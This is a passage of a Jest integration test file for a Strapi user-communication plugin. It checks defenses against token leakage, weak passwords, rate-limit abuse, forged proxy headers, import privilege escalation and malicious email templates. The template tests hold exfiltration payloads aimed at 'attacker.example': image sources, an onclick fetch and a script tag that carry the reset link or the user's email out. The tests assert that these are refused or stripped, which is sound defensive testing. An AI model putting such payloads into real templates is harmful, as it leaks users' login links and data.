/**
 * Production trust, played from outside: each attack of the security review as a client, an
 * admin of a narrow role or a reader of a database copy would try it, and what stops it.
 */
import crypto from 'node:crypto';
import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import type { ReceivedMail } from '../helpers/smtp';
import { bootStrapi, type TestApp } from '../helpers/strapi';
import {
  authenticatedRoleId,
  createAdmin,
  createAdminRole,
  findUser,
  newUserInput,
  type AdminSession,
} from '../helpers/actors';
import { activationApi, USER_UID } from '../helpers/activation';
import { recheckStoredTemplates } from '@server/migrations/recheck-stored-templates';
import { sealStoredLinkTokens } from '@server/migrations/seal-stored-link-tokens';
import { unlogRateLimitCounters } from '@server/migrations/unlogged-rate-limit-counters';
import { digestStoredConfirmationCodes } from '@server/users-permissions/confirmation-code';
import { inIsolation, ISOLATIONS } from '../helpers/database';
import { databaseText, tablesHolding } from '../helpers/database-dump';
import {
  createActiveUser,
  logIn,
  mailTo,
  RESET_SUBJECT,
  resetTokenFrom,
} from '../helpers/passwords';
import { USER_PASSWORD, createApiToken } from '../helpers/actors';
import { activationMailTo, tokenFromMail } from '../helpers/activation';
import { settle } from '../helpers/outbox';
import { seedUser } from '../helpers/users';
import type { UsersService } from '@server/services/users';

const CM_USERS = `/content-manager/collection-types/${USER_UID}`;
const TOKEN_IN_LINK = /(?:token|code)=([A-Za-z0-9_-]{43})/g;

/** Every link token in the mails that arrived. */
const mailedTokens = (mails: ReceivedMail[]): string[] => [
  ...new Set(
    mails.flatMap((mail) =>
      [...`${mail.text}\n${mail.html}`.matchAll(TOKEN_IN_LINK)].map((match) => match[1])
    )
  ),
];

describe('production trust', () => {
  let app: TestApp;
  let admin: AdminSession;
  const logged: string[] = [];

  beforeAll(async () => {
    // users-permissions' own limiter on, as in production (the other test files turn it off).
    app = await bootStrapi({ env: { UP_RATELIMIT_ENABLED: 'true' } });
    admin = await createAdmin(app);
    // Every line the app logs, whatever its level.
    for (const level of ['error', 'warn', 'info', 'http', 'debug'] as const) {
      const original = app.strapi.log[level].bind(app.strapi.log);
      (app.strapi.log as unknown as Record<string, unknown>)[level] = (...args: unknown[]) => {
        logged.push(args.map(String).join(' '));
        return (original as (...values: unknown[]) => unknown)(...args);
      };
    }
  });

  afterAll(async () => {
    await app?.stop();
  });

  const adminApi = (method: 'get' | 'post' | 'put', url: string, session = admin) =>
    app.http()[method](url).set('Authorization', session.auth);

  const deliver = () => settle(app);

  describe('a link token is readable only in the mailbox', () => {
    it('after a day of every flow, no API answer, log line or table holds a token that was mailed', async () => {
      // An admin creates a user (activation e-mail), resends it, and the user asks for another.
      const created = newUserInput('day');
      const response = await adminApi('post', CM_USERS).send({
        username: created.username,
        email: created.email,
        role: await authenticatedRoleId(app),
      });
      expect(response.status).toBe(201);
      const documentId = (response.body.data ?? response.body).documentId as string;
      await adminApi('post', '/user-communication/activation/resend').send({
        userIds: [documentId],
      });
      await activationApi(app).renew({ email: created.email });
      // An active user forgets the password; an admin sends another reset.
      const active = await createActiveUser(app);
      await app.http().post('/api/auth/forgot-password').send({ email: active.email });
      await adminApi('post', `/user-communication/users/${active.documentId}/reset-password`);
      // A user who never activated is reminded, with a fresh activation link.
      await adminApi('put', '/user-communication/settings').send({
        noLoginReminder: { enabled: true, intervalDays: 30 },
      });
      const forgotten = await seedUser(app, { createdAt: '2020-01-01T00:00:00Z' });
      await app.strapi.plugin('user-communication').service('reminders').run('manual');
      await deliver();
      // One more reset, which the relay refuses for good, so that it can be retried.
      const refused = await createActiveUser(app);
      app.mail.failNext({ code: 550, message: 'mailbox unavailable' });
      await adminApi('post', `/user-communication/users/${refused.documentId}/reset-password`);
      await deliver();

      const tokens = mailedTokens(app.mail.messages);
      for (const address of [created.email, active.email, forgotten.email]) {
        expect(app.mail.to(address).length).toBeGreaterThan(0);
      }
      expect(tokens.length).toBeGreaterThanOrEqual(5);

      // The message log, as a support agent allowed to read it (and retry) sees it.
      const support = await createAdmin(app, {
        roleIds: [
          await createAdminRole(app, [
            'plugin::user-communication.messages.read',
            'plugin::user-communication.messages.retry',
          ]),
        ],
      });
      const answers: string[] = [];
      const list = await adminApi('get', '/user-communication/messages?pageSize=100', support);
      expect(list.status).toBe(200);
      answers.push(JSON.stringify(list.body));
      for (const message of list.body.results as Array<{ id: number; status: string }>) {
        const detail = await adminApi('get', `/user-communication/messages/${message.id}`, support);
        answers.push(JSON.stringify(detail.body));
        if (message.status === 'dead') {
          const retried = await adminApi(
            'post',
            `/user-communication/messages/${message.id}/retry`,
            support
          );
          expect(retried.status).toBe(202);
          answers.push(JSON.stringify(retried.body));
        }
      }
      expect(answers.join('\n')).toContain('[hidden]');
      // The worker never ran its queries on the transaction of the flow that queued a message.
      expect(logged.filter((line) => line.includes('delivery worker:'))).toEqual([]);

      const dump = await databaseText(app);
      for (const token of tokens) {
        expect({ token, answers: answers.some((answer) => answer.includes(token)) }).toEqual({
          token,
          answers: false,
        });
        expect({ token, log: logged.some((line) => line.includes(token)) }).toEqual({
          token,
          log: false,
        });
        expect({ token, tables: tablesHolding(dump, token) }).toEqual({ token, tables: [] });
      }
    });

    it('messages queued before tokens were sealed are sealed (pending) or masked (sent) once, and still arrive', async () => {
      const user = await createActiveUser(app);
      const { token } = await app.strapi
        .plugin('user-communication')
        .service('tokens')
        .issue(user.id, 'password-reset', { minutes: 60 });
      const link = `http://localhost:1337/user-communication/reset-password#token=${token}`;
      const legacy = (status: string, key: string, text = `Open ${link}`) => ({
        document_id: `legacy-${key}-${Date.now()}`,
        type: 'password-reset',
        user_id: user.id,
        recipient: user.email,
        subject: 'Reset your password',
        text,
        html: `<a href="${link.replace('=', '&#61;')}">Reset</a>`,
        status,
        attempts: 0,
        next_attempt_at: new Date(),
        dedupe_key: `legacy-${key}-${Date.now()}`,
        created_at: new Date(),
        updated_at: new Date(),
        published_at: new Date(),
      });
      await app.strapi.db.connection('uc_messages').insert([
        legacy('sent', 'sent'),
        legacy('queued', 'queued'),
        // A template whose text part had no link: the token was only in the HTML.
        legacy('sent', 'html-only', 'Open the link in the HTML version of this mail.'),
      ]);
      await app.strapi
        .store({ type: 'plugin', name: 'user-communication' })
        .delete({ key: 'stored-link-tokens-sealed' });
      await sealStoredLinkTokens(app.strapi as never);
      expect(tablesHolding(await databaseText(app), token)).toEqual([]);
      await deliver();
      const mail = await mailTo(app, user.email, /reset your password/i);
      expect(resetTokenFrom(mail)).toBe(token);
    });

    it("with activation off, users-permissions' own confirmation link is kept only as a digest", async () => {
      await adminApi('put', '/user-communication/settings').send({
        activation: { enabled: false },
      });
      const store = app.strapi.store({
        type: 'plugin',
        name: 'users-permissions',
        key: 'advanced',
      });
      const advanced = (await store.get({})) as Record<string, unknown>;
      await store.set({ value: { ...advanced, email_confirmation: true } });
      const confirm = (code: string) =>
        app.http().get('/api/auth/email-confirmation').query({ confirmation: code });
      /** A registered user whose row holds a code in clear, as users-permissions alone writes it. */
      const registeredWithCodeInClear = async (name: string) => {
        const input = newUserInput(name);
        await app.http().post('/api/auth/local/register').send(input);
        const code = crypto.randomBytes(20).toString('hex');
        await app.strapi.db
          .connection('up_users')
          .where({ email: input.email })
          .update({ confirmation_token: code });
        return { email: input.email, code };
      };
      try {
        const input = newUserInput('confirm');
        const registered = await app.http().post('/api/auth/local/register').send(input);
        expect(registered.status).toBe(200);
        const mail = await app.mail.waitFor((m) => m.to.includes(input.email));
        const link = mail.links.find((l) => l.includes('confirmation='));
        const token = new URL(link as string).searchParams.get('confirmation') as string;
        expect(tablesHolding(await databaseText(app), token)).toEqual([]);

        // What a database backup holds does not confirm anyone.
        const row = await app.strapi.db
          .query(USER_UID)
          .findOne({ where: { email: input.email }, select: ['confirmationToken'] });
        const stolen = await confirm(row.confirmationToken);
        expect(stolen.status).toBe(400);
        expect((await findUser(app, input.email)).confirmed).toBe(false);

        const confirmed = await confirm(token);
        expect(confirmed.status).toBe(302);
        expect((await findUser(app, input.email)).confirmed).toBe(true);

        // A code stored in clear before the plugin digested them: digested once, its link still works.
        const legacy = await registeredWithCodeInClear('confirm-legacy');
        await app.strapi
          .store({ type: 'plugin', name: 'user-communication' })
          .delete({ key: 'stored-confirmation-codes-digested' });
        await digestStoredConfirmationCodes(app.strapi as never);
        expect(tablesHolding(await databaseText(app), legacy.code)).toEqual([]);
        const legacyConfirmed = await confirm(legacy.code);
        expect(legacyConfirmed.status).toBe(302);
        expect((await findUser(app, legacy.email)).confirmed).toBe(true);

        // Written in clear after that pass (an instance of the earlier version, mid-deploy): still works.
        const late = await registeredWithCodeInClear('confirm-late');
        const lateConfirmed = await confirm(late.code);
        expect(lateConfirmed.status).toBe(302);
        expect((await findUser(app, late.email)).confirmed).toBe(true);
      } finally {
        await store.set({ value: advanced });
        await adminApi('put', '/user-communication/settings').send({
          activation: { enabled: true },
        });
      }
    });

    it('a message that cannot be queued leaves no live link behind', async () => {
      const user = await createActiveUser(app);
      const outbox = app.strapi.plugin('user-communication').service('outbox');
      const enqueue = outbox.enqueue;
      outbox.enqueue = async () => {
        throw new Error('the outbox is unavailable');
      };
      try {
        const answer = await adminApi(
          'post',
          `/user-communication/users/${user.documentId}/reset-password`
        );
        expect(answer.status).toBe(500);
      } finally {
        outbox.enqueue = enqueue;
      }
      const open = await app.strapi.db.query('plugin::user-communication.token').count({
        where: { userId: user.id, usedAt: null, supersededAt: null },
      });
      expect(open).toBe(0);
    });
  });

  describe("the project's password rules apply wherever a password is set", () => {
    // On the reference app's list of common passwords (its validationRules.validatePassword hook).
    const COMMON = 'P@ssw0rd';
    // Shorter than the plugin's passwordMinLength (8), which users-permissions alone does not know.
    const SHORT = 'Ab1!xyz';
    const refused = (response: { status: number; body: { error?: { message?: string } } }) => {
      expect(response.status).toBe(400);
      return response.body.error?.message ?? '';
    };

    it("users-permissions' own register and change-password refuse them", async () => {
      for (const password of [COMMON, SHORT]) {
        const input = { ...newUserInput('rules'), password };
        refused(await app.http().post('/api/auth/local/register').send(input));
      }
      const user = await createActiveUser(app);
      const { jwt } = (await logIn(app, user.email, USER_PASSWORD)).body as { jwt: string };
      for (const password of [COMMON, SHORT]) {
        const change = await app
          .http()
          .post('/api/auth/change-password')
          .set('Authorization', `Bearer ${jwt}`)
          .send({ currentPassword: USER_PASSWORD, password, passwordConfirmation: password });
        expect(refused(change)).toMatch(/password/i);
      }
    });

    it('the reset link, the activation link and the one-time change refuse them and stay usable', async () => {
      const user = await createActiveUser(app);
      await app.http().post('/api/auth/forgot-password').send({ email: user.email });
      await deliver();
      const code = resetTokenFrom(await mailTo(app, user.email, RESET_SUBJECT));
      const reset = (password: string) =>
        app.http().post('/api/auth/reset-password').send({
          code,
          password,
          passwordConfirmation: password,
        });
      refused(await reset(COMMON));
      expect((await reset('Accepted-Passw0rd-1')).status).toBe(200);

      const created = newUserInput('rules-activation');
      await adminApi('post', CM_USERS).send({
        username: created.username,
        email: created.email,
        role: await authenticatedRoleId(app),
      });
      const token = tokenFromMail(await activationMailTo(app, created.email));
      const complete = (password: string) =>
        activationApi(app).complete({ token, password, passwordConfirmation: password });
      refused(await complete(COMMON));
      expect((await complete('Accepted-Passw0rd-2')).status).toBe(200);

      const oneTime = await createActiveUser(app);
      await adminApi('post', `/user-communication/users/${oneTime.documentId}/password`).send({
        password: 'Handed-Over-Passw0rd-3',
        oneTime: true,
      });
      const login = await logIn(app, oneTime.email, 'Handed-Over-Passw0rd-3');
      const { changeToken } = login.body.error.details as { changeToken: string };
      const change = (password: string) =>
        app.http().post('/api/user-communication/password/change').send({
          changeToken,
          password,
          passwordConfirmation: password,
        });
      refused(await change(COMMON));
      expect((await change('Accepted-Passw0rd-4')).status).toBe(200);
    });

    it('an admin, the Content Manager and the users API refuse them', async () => {
      const user = await createActiveUser(app);
      refused(
        await adminApi('post', `/user-communication/users/${user.documentId}/password`).send({
          password: COMMON,
          oneTime: false,
        })
      );
      refused(await adminApi('put', `${CM_USERS}/${user.documentId}`).send({ password: COMMON }));
      refused(
        await adminApi('post', CM_USERS).send({
          ...newUserInput('rules-cm'),
          password: COMMON,
          role: await authenticatedRoleId(app),
        })
      );
      const token = await createApiToken(app);
      refused(
        await app
          .http()
          .put(`/api/users/${user.id}`)
          .set('Authorization', `Bearer ${token}`)
          .send({ password: SHORT })
      );
      refused(
        await app
          .http()
          .post('/api/users')
          .set('Authorization', `Bearer ${token}`)
          .send({
            ...newUserInput('rules-api'),
            password: COMMON,
            role: await authenticatedRoleId(app),
          })
      );
      expect((await logIn(app, user.email, USER_PASSWORD)).status).toBe(200);
    });
  });

  describe('an activation link sets the first password only', () => {
    const createWithPassword = async () => {
      const input = newUserInput('given');
      const response = await adminApi('post', CM_USERS).send({
        ...input,
        role: await authenticatedRoleId(app),
      });
      expect(response.status).toBe(201);
      return input;
    };

    it('after the first login, the old activation link sets nothing', async () => {
      const input = await createWithPassword();
      const token = tokenFromMail(await activationMailTo(app, input.email));
      expect((await logIn(app, input.email, input.password)).status).toBe(200);
      const attempt = await activationApi(app).complete({
        token,
        password: 'Taken-Over-Passw0rd',
        passwordConfirmation: 'Taken-Over-Passw0rd',
      });
      expect(attempt.status).toBe(400);
      expect(attempt.body.error.name).toBe('ActivationLinkExpired');
      expect((await logIn(app, input.email, input.password)).status).toBe(200);
      const stored = await app.strapi.db
        .query(USER_UID)
        .findOne({ where: { email: input.email }, select: ['activatedAt'] });
      expect(stored.activatedAt).not.toBeNull();
    });

    it('on an account that has a password, the link only activates: a password sent along is refused', async () => {
      const input = await createWithPassword();
      const token = tokenFromMail(await activationMailTo(app, input.email));
      const attempt = await activationApi(app).complete({
        token,
        password: 'Taken-Over-Passw0rd',
        passwordConfirmation: 'Taken-Over-Passw0rd',
      });
      expect(attempt.status).toBe(400);
      expect(attempt.body.error.details.errors[0].path).toEqual(['password']);
      expect((await activationApi(app).complete({ token })).status).toBe(200);
      expect((await logIn(app, input.email, input.password)).status).toBe(200);
    });

    it('reminders carry an activation link only to users without a password', async () => {
      await adminApi('put', '/user-communication/settings').send({
        noLoginReminder: { enabled: true, intervalDays: 30 },
      });
      const withPassword = await createActiveUser(app);
      await app.strapi.db
        .connection('up_users')
        .where({ id: withPassword.id })
        .update({ created_at: new Date('2020-01-01T00:00:00Z') });
      const without = await seedUser(app, { createdAt: '2020-01-01T00:00:00Z' });
      app.clock.advance({ days: 1 });
      try {
        await app.strapi.plugin('user-communication').service('reminders').run('manual');
        await deliver();
        const [toWithPassword] = app.mail.to(withPassword.email);
        const [toWithout] = app.mail.to(without.email);
        expect(mailedTokens([toWithPassword])).toEqual([]);
        expect(toWithPassword.links).toContain('https://learn.example.com');
        expect(mailedTokens([toWithout])).toHaveLength(1);
      } finally {
        app.clock.reset();
      }
    });

    it('with activation off, resend and renew issue no link and say so', async () => {
      await adminApi('put', '/user-communication/settings').send({
        activation: { enabled: false },
      });
      try {
        const user = await seedUser(app, { createdAt: '2026-01-01T00:00:00Z' });
        const resent = await adminApi('post', '/user-communication/activation/resend').send({
          userIds: [String(user.id)],
        });
        expect(resent.body.results).toEqual([
          { id: String(user.id), status: 'skipped', reason: 'activation-off' },
        ]);
        const renewed = await activationApi(app).renew({ email: user.email });
        expect(renewed.status).toBe(200);
        expect(renewed.body.message).toMatch(/not sent/);
        await deliver();
        expect(app.mail.to(user.email)).toHaveLength(0);
      } finally {
        await adminApi('put', '/user-communication/settings').send({
          activation: { enabled: true },
        });
      }
    });
  });

  describe('links follow the address', () => {
    it('changing the e-mail address revokes every open link, and no link error tells the new one', async () => {
      const input = newUserInput('moved');
      const created = await adminApi('post', CM_USERS).send({
        username: input.username,
        email: input.email,
        role: await authenticatedRoleId(app),
      });
      const documentId = (created.body.data ?? created.body).documentId as string;
      const token = tokenFromMail(await activationMailTo(app, input.email));
      const corrected = `corrected-${input.email}`;
      expect(
        (await adminApi('put', `${CM_USERS}/${documentId}`).send({ email: corrected })).status
      ).toBe(200);
      const old = await activationApi(app).complete({
        token,
        password: 'Mistyped-Mailbox-Passw0rd',
        passwordConfirmation: 'Mistyped-Mailbox-Passw0rd',
      });
      expect(old.status).toBe(400);
      expect(JSON.stringify(old.body)).not.toContain(corrected);
      const verify = await activationApi(app).verify({ token });
      expect(JSON.stringify(verify.body)).not.toContain(corrected);
    });
  });

  describe('limits that survive real networks', () => {
    it('300 learners behind one address all activate within 10 minutes', async () => {
      const started = Date.now();
      const rows = Array.from({ length: 300 }, (_, index) => ({
        document_id: `nat-${index}-${Date.now().toString(36)}`,
        username: `nat-learner-${index}-${started}`,
        email: `nat-learner-${index}-${started}@example.com`,
        provider: 'local',
        confirmed: false,
        blocked: false,
        origin: 'integration',
        created_at: new Date(),
        updated_at: new Date(),
        published_at: new Date(),
      }));
      for (let index = 0; index < rows.length; index += 100) {
        await app.strapi.db.connection('up_users').insert(rows.slice(index, index + 100));
      }
      const users = (await app.strapi.db.query(USER_UID).findMany({
        where: { email: { $in: rows.map((row) => row.email) } },
        select: ['id'],
      })) as Array<{ id: number }>;
      const links = (await app.strapi
        .plugin('user-communication')
        .service('tokens')
        .issueMany(
          users.map((user) => user.id),
          'activation',
          { days: 14 }
        )) as Map<number, { token: string }>;
      const tokens = [...links.values()].map((link) => link.token);
      const statuses: number[] = [];
      const activate = async (token: string) => {
        // What the built-in page does: check the link when it opens, then set the password.
        const opened = await activationApi(app).verify({ token });
        const done = await activationApi(app).complete({
          token,
          password: 'Learner-Chosen-Passw0rd',
          passwordConfirmation: 'Learner-Chosen-Passw0rd',
        });
        statuses.push(opened.status, done.status);
      };
      for (let index = 0; index < tokens.length; index += 10) {
        await Promise.all(tokens.slice(index, index + 10).map(activate));
      }
      expect(statuses.filter((status) => status !== 200)).toEqual([]);
      expect(Date.now() - started).toBeLessThan(10 * 60_000);
    }, 600_000);

    it('of twenty concurrent hits on one counter, exactly the limit get through', async () => {
      const limits = app.strapi.plugin('user-communication').service('rate-limits');
      const key = `concurrency-${Date.now()}`;
      const answers = await Promise.all(
        Array.from({ length: 20 }, () => limits.hit({ key, max: 5, windowSeconds: 600 }))
      );
      expect(answers.filter(Boolean)).toHaveLength(5);
    });

    it('on PostgreSQL the counters are an unlogged table (no write-ahead-log flush per request), made so once at boot', async () => {
      const persistence = async () =>
        (
          (await app.strapi.db.connection.raw(
            "select relpersistence from pg_class where oid = to_regclass('uc_rate_limits')"
          )) as { rows: Array<{ relpersistence: string }> }
        ).rows[0].relpersistence;
      const warn = jest.spyOn(app.strapi.log, 'warn');
      try {
        // A second boot (or a second instance booting at once) finds it done and changes nothing.
        await unlogRateLimitCounters(app.strapi);
        expect(warn).not.toHaveBeenCalled();
      } finally {
        warn.mockRestore();
      }
      if (app.strapi.db.dialect.client === 'postgres') expect(await persistence()).toBe('u');
    });

    it("a stranger cannot block someone's reset: past the address limit the answer stays 200 and the latest link works", async () => {
      const victim = await createActiveUser(app);
      for (let i = 0; i < 7; i += 1) {
        const answer = await app
          .http()
          .post('/api/auth/forgot-password')
          .send({ email: victim.email });
        expect(answer.status).toBe(200);
      }
      await deliver();
      const mails = app.mail.to(victim.email).filter((mail) => RESET_SUBJECT.test(mail.subject));
      expect(mails.length).toBe(5);
      const latest = resetTokenFrom(mails[mails.length - 1]);
      const reset = await app.http().post('/api/auth/reset-password').send({
        code: latest,
        password: 'Victim-Own-Passw0rd',
        passwordConfirmation: 'Victim-Own-Passw0rd',
      });
      expect(reset.status).toBe(200);
    });

    it("behind one address, users-permissions' routes count failures, not people: thirty logins, eleven wrong reset codes, then a real reset", async () => {
      const learners = await Promise.all(Array.from({ length: 30 }, () => createActiveUser(app)));
      const logins = [];
      for (const learner of learners)
        logins.push((await logIn(app, learner.email, USER_PASSWORD)).status);
      expect(logins.filter((status) => status !== 200)).toEqual([]);

      const wrongCodes = [];
      for (let i = 0; i < 11; i += 1) {
        const wrong = await app
          .http()
          .post('/api/auth/reset-password')
          .send({
            code: `${'B'.repeat(42)}${i % 10}`,
            password: 'Guessing-Passw0rd',
            passwordConfirmation: 'Guessing-Passw0rd',
          });
        wrongCodes.push(wrong.status);
      }
      expect(new Set(wrongCodes)).toEqual(new Set([400]));

      const owner = learners[0];
      await app.http().post('/api/auth/forgot-password').send({ email: owner.email });
      await deliver();
      const link = app.mail.to(owner.email).filter((mail) => RESET_SUBJECT.test(mail.subject));
      const reset = await app
        .http()
        .post('/api/auth/reset-password')
        .send({
          code: resetTokenFrom(link[link.length - 1]),
          password: 'Owner-Own-Passw0rd',
          passwordConfirmation: 'Owner-Own-Passw0rd',
        });
      expect(reset.status).toBe(200);
    });

    it('guessing one password stops at the account limit; its owner elsewhere and others here still log in', async () => {
      const koa = app.strapi.server.app;
      Object.assign(koa, { proxy: true, maxIpsCount: 1 });
      try {
        const victim = await createActiveUser(app);
        const other = await createActiveUser(app);
        const from = (address: string, identifier: string, password: string) =>
          app
            .http()
            .post('/api/auth/local')
            .set('X-Forwarded-For', address)
            .send({ identifier, password });
        const guesses = [];
        for (let i = 0; i < 11; i += 1) {
          guesses.push((await from('203.0.113.66', victim.email, `Wrong-Guess-${i}`)).status);
        }
        expect(guesses.slice(0, 10)).toEqual(Array(10).fill(400));
        expect(guesses[10]).toBe(429);
        // The same identifier in other letters is the same account.
        expect((await from('203.0.113.66', victim.email.toUpperCase(), USER_PASSWORD)).status).toBe(
          429
        );
        expect((await from('203.0.113.66', other.email, USER_PASSWORD)).status).toBe(200);
        expect((await from('198.51.100.20', victim.email, USER_PASSWORD)).status).toBe(200);
      } finally {
        Object.assign(koa, { proxy: false, maxIpsCount: 0 });
      }
    });

    it('on a link route, a new password the rules refuse does not count; a wrong link does', async () => {
      const path = 'plugin::user-communication.rateLimits.perIp';
      const previous = app.strapi.config.get(path);
      app.strapi.config.set(path, { max: 2, windowSeconds: 600 });
      try {
        const user = await seedUser(app, { createdAt: app.clock.now().toISO()! });
        const links = (await app.strapi
          .plugin('user-communication')
          .service('tokens')
          .issueMany([user.id], 'activation', { days: 14 })) as Map<number, { token: string }>;
        const token = links.get(user.id)!.token;
        const complete = (password: string) =>
          activationApi(app).complete({ token, password, passwordConfirmation: password });
        const weak = [];
        for (let i = 0; i < 4; i += 1) weak.push((await complete('short')).status);
        expect(weak).toEqual([400, 400, 400, 400]);
        expect((await complete('Learner-Chosen-Passw0rd')).status).toBe(200);

        const wrong = [];
        for (let i = 0; i < 3; i += 1) {
          wrong.push((await activationApi(app).verify({ token: 'C'.repeat(43) })).status);
        }
        expect(wrong).toEqual([400, 400, 429]);
      } finally {
        app.strapi.config.set(path, previous);
      }
    });

    it('behind a proxy, each client has its own counter, and a forged X-Forwarded-For entry changes nothing', async () => {
      // What PROXY_HOPS=1 sets (config/server.ts; tests/unit/app/config/server.test.ts), on this instance.
      const koa = app.strapi.server.app;
      const path = 'plugin::user-communication.rateLimits.perIp';
      const previous = app.strapi.config.get(path);
      Object.assign(koa, { proxy: true, maxIpsCount: 1 });
      app.strapi.config.set(path, { max: 2, windowSeconds: 600 });
      try {
        const verify = (forwardedFor: string) =>
          app
            .http()
            .post('/api/user-communication/activation/verify')
            .set('X-Forwarded-For', forwardedFor)
            .send({ token: 'A'.repeat(43) });
        // The proxy appends the address it saw; the client may have written anything before it.
        const statuses = [];
        for (let i = 0; i < 3; i += 1) {
          statuses.push((await verify(`9.9.9.${i}, 198.51.100.7`)).status);
        }
        expect(statuses).toEqual([400, 400, 429]);
        expect((await verify('198.51.100.8')).status).toBe(400);
      } finally {
        Object.assign(koa, { proxy: false, maxIpsCount: 0 });
        app.strapi.config.set(path, previous);
      }
    });
  });

  describe('bulk paths change only what they own', () => {
    const importSheet = async (session: AdminSession, csv: string) => {
      const dir = fs.mkdtempSync(path.join(os.tmpdir(), 'uc-security-'));
      const file = path.join(dir, 'users.csv');
      fs.writeFileSync(file, csv);
      const preview = await app
        .http()
        .post('/user-communication/imports')
        .set('Authorization', session.auth)
        .attach('file', file);
      expect(preview.status).toBe(200);
      return app
        .http()
        .post(`/user-communication/imports/${preview.body.id}/commit`)
        .set('Authorization', session.auth)
        .send({ updateExisting: true });
    };

    it('an import may not update an account it did not bring in, unless the admin may edit users', async () => {
      const blocked = await createActiveUser(app, { blocked: true });
      const importer = await createAdmin(app, {
        roleIds: [await createAdminRole(app, ['plugin::user-communication.users.import'])],
      });
      const committed = await importSheet(
        importer,
        `email,username,blocked\n${blocked.email},renamed-by-sheet,no\n`
      );
      expect(committed.body).toMatchObject({ updated: 0, skipped: 1 });
      const stored = await app.strapi.db
        .query(USER_UID)
        .findOne({ where: { id: blocked.id }, select: ['username', 'blocked'] });
      expect(stored).toEqual({ username: blocked.username, blocked: true });
      // A super admin may edit users in the Content Manager: the same sheet updates.
      expect((await importSheet(admin, `email,locale\n${blocked.email},da\n`)).body).toMatchObject({
        updated: 1,
      });
    });

    it('a Content Manager right held only under a condition ("users I created") does not extend to the import', async () => {
      const blocked = await createActiveUser(app, { blocked: true });
      const roleId = await createAdminRole(app, ['plugin::user-communication.users.import']);
      await app.strapi.service('admin::role').addPermissions(roleId, [
        {
          action: 'plugin::content-manager.explorer.update',
          subject: USER_UID,
          properties: { fields: ['username', 'email', 'blocked'] },
          conditions: ['admin::is-creator'],
        },
      ]);
      const importer = await createAdmin(app, { roleIds: [roleId] });
      const committed = await importSheet(importer, `email,blocked\n${blocked.email},no\n`);
      expect(committed.body).toMatchObject({ updated: 0, skipped: 1 });
      expect(
        await app.strapi.db
          .query(USER_UID)
          .findOne({ where: { id: blocked.id }, select: ['blocked'] })
      ).toEqual({ blocked: true });
    });

    it('an API token allowed only the integration API may not rename or unblock other accounts', async () => {
      const token = await app.strapi.service('admin::api-token').create({
        name: `provisioning-only-${Date.now()}`,
        type: 'custom',
        lifespan: null,
        permissions: ['plugin::user-communication.provisioning.upsert'],
      });
      const provision = (body: object) =>
        app
          .http()
          .post('/api/user-communication/users')
          .set('Authorization', `Bearer ${token.accessKey}`)
          .send(body);
      const registered = await createActiveUser(app, { blocked: true });
      const refused = await provision({
        email: registered.email,
        username: 'taken-over',
        blocked: false,
      });
      expect(refused.status).toBe(400);
      expect(refused.body.error.message).toMatch(/not created by an import or an integration/);
      const stored = await app.strapi.db
        .query(USER_UID)
        .findOne({ where: { id: registered.id }, select: ['username', 'blocked'] });
      expect(stored).toEqual({ username: registered.username, blocked: true });

      // Its own users it updates, and a username that is someone's e-mail is refused.
      const own = newUserInput('own');
      expect((await provision({ email: own.email })).status).toBe(201);
      expect((await provision({ email: own.email, locale: 'da' })).status).toBe(200);
      const confusing = await provision({ email: own.email, username: registered.email });
      expect(confusing.status).toBe(400);
      expect(confusing.body.error.message).toMatch(/belongs to another user/);
    });

    it('a row that fails for a database reason stores a generic message, never SQL or values', async () => {
      const writer = app.strapi.plugin('user-communication').service('user-writer');
      const insertMany = writer.insertMany;
      writer.insertMany = async () => {
        throw new Error(
          'insert into "up_users" ("email") values (\'secret-row@example.com\') - boom'
        );
      };
      try {
        const committed = await importSheet(admin, 'email\nsecret-row@example.com\n');
        expect(committed.body.failed).toHaveLength(1);
        expect(committed.body.failed[0].error).toMatch(/could not be saved/);
        expect(JSON.stringify(committed.body)).not.toMatch(/insert into|up_users/);
      } finally {
        writer.insertMany = insertMany;
      }
    });
  });

  describe('templates cannot carry links elsewhere', () => {
    const TEMPLATE = '/user-communication/templates/activation/en';
    const ATTACKER = 'attacker.example';
    const storedActivation = () =>
      app.strapi.db
        .query('plugin::user-communication.template')
        .findOne({ where: { type: 'activation', locale: 'en' } });
    // Review finding F6: the role that can do no more than edit templates.
    const templateEditor = async () =>
      createAdmin(app, {
        roleIds: [await createAdminRole(app, ['plugin::user-communication.templates.update'])],
      });

    it('a template stored before the rules (or behind the API) is checked at boot: a misplaced link reverts it to the default', async () => {
      await app.strapi.db.query('plugin::user-communication.template').create({
        data: {
          type: 'password-reset',
          locale: 'da',
          subject: 'Nulstil',
          html: `<p><img src="https://${ATTACKER}/p?{{ link }}"><a href="{{ link }}">Nulstil</a></p>`,
          text: 'Nulstil: {{ link }}',
        },
      });
      await recheckStoredTemplates(app.strapi as never);
      const stored = await app.strapi.db
        .query('plugin::user-communication.template')
        .findOne({ where: { type: 'password-reset', locale: 'da' } });
      expect(stored).toBeNull();
    });

    it('an editor of templates cannot put the link in an image or the subject: 400, nothing saved', async () => {
      const editor = await templateEditor();
      const before = await storedActivation();
      const attempts = [
        {
          edit: { html: `<p>Welcome</p><img src="https://${ATTACKER}/p?{{ link }}">` },
          path: 'html',
          place: 'not in the src of <img>',
        },
        { edit: { subject: 'Activate: {{link}}' }, path: 'subject', place: 'not in the subject' },
      ];
      for (const { edit, path, place } of attempts) {
        const response = await adminApi('put', TEMPLATE, editor).send({
          subject: 'Activate your account',
          html: '<p><a href="{{ link }}">Activate</a></p>',
          text: 'Activate: {{ link }}',
          ...edit,
        });
        expect(response.status).toBe(400);
        expect(response.body.error.name).toBe('ValidationError');
        expect(response.body.error.message).toContain(place);
        expect(response.body.error.details.errors[0].path).toEqual([path]);
      }
      expect(await storedActivation()).toEqual(before);
    });

    it('a script, a handler and a remote image are stored without them, and the mail loads nothing', async () => {
      const editor = await templateEditor();
      const saved = await adminApi('put', TEMPLATE, editor).send({
        subject: 'Activate your account',
        html:
          `<p onclick="fetch('https://${ATTACKER}/c')">Hello {{ username }}</p>` +
          `<script src="https://${ATTACKER}/s.js"></script>` +
          `<img src="https://${ATTACKER}/pixel.png?u={{ email }}">` +
          '<p><a href="{{ link }}">Activate</a></p>',
        text: 'Activate: {{ link }}',
      });
      try {
        expect(saved.status).toBe(200);
        expect((await storedActivation()).html).toBe(
          '<p>Hello {{ username }}</p><p><a href="{{ link }}">Activate</a></p>'
        );
        const created = newUserInput('template');
        await adminApi('post', CM_USERS).send({
          username: created.username,
          email: created.email,
          role: await authenticatedRoleId(app),
        });
